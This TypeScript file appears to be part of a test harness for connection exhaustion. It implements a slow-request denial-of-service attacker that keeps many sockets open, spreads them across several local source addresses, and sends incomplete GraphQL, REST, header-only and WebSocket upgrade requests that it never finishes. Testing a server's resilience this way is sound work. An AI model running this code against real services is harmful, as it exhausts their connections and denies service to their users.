/** Process of an attacker: keeps a number of sockets open, and never completes the requests on them. */
import { connect } from 'node:net';
import type { Attack, Held } from './unfinished-attack.ts';

const TICK_MS = 20;
const TELL_MS = 200;

const JSON_HEAD = 'Host: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n';
const BYTES = {
  graphql: `POST /graphql HTTP/1.1\r\n${JSON_HEAD}{`,
  rest: `POST /v1/orgs HTTP/1.1\r\n${JSON_HEAD}{`,
  head: 'POST /graphql HTTP/1.1\r\nHost: x\r\n',
  webSocket: [
    'GET /graphql HTTP/1.1',
    'Host: x',
    'Connection: Upgrade',
    'Upgrade: websocket',
    'Sec-WebSocket-Version: 13',
    'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
    'Sec-WebSocket-Protocol: graphql-transport-ws\r\n\r\n',
  ].join('\r\n'),
};

const attack = JSON.parse(process.argv[2] as string) as Attack;
const { hostname, port } = new URL(attack.url);
const held: Held = { open: 0, opened: 0, failed: 0 };
/** Indexes of sockets that are not open. */
const waiting = Array.from({ length: attack.sockets }, (_, index) => index);

function hold(index: number): void {
  const { addresses, kinds } = attack;
  const localAddress = addresses[index % addresses.length] as string;
  const socket = connect({ host: hostname, port: Number(port), localAddress });
  let isOpen = false;
  socket.on('connect', () => {
    isOpen = true;
    held.open += 1;
    held.opened += 1;
    // Each address sends all kinds of requests.
    const turn = Math.floor(index / addresses.length);
    socket.write(BYTES[kinds[turn % kinds.length] as keyof typeof BYTES]);
  });
  socket.on('error', () => {});
  socket.on('end', () => socket.destroy());
  socket.resume();
  socket.on('close', () => {
    if (isOpen) held.open -= 1;
    else held.failed += 1;
    waiting.push(index);
  });
}

setInterval(() => {
  for (const index of waiting.splice(0, (attack.perSecond * TICK_MS) / 1000)) hold(index);
}, TICK_MS);
setInterval(() => process.send?.(held), TELL_MS);
process.on('disconnect', () => process.exit());
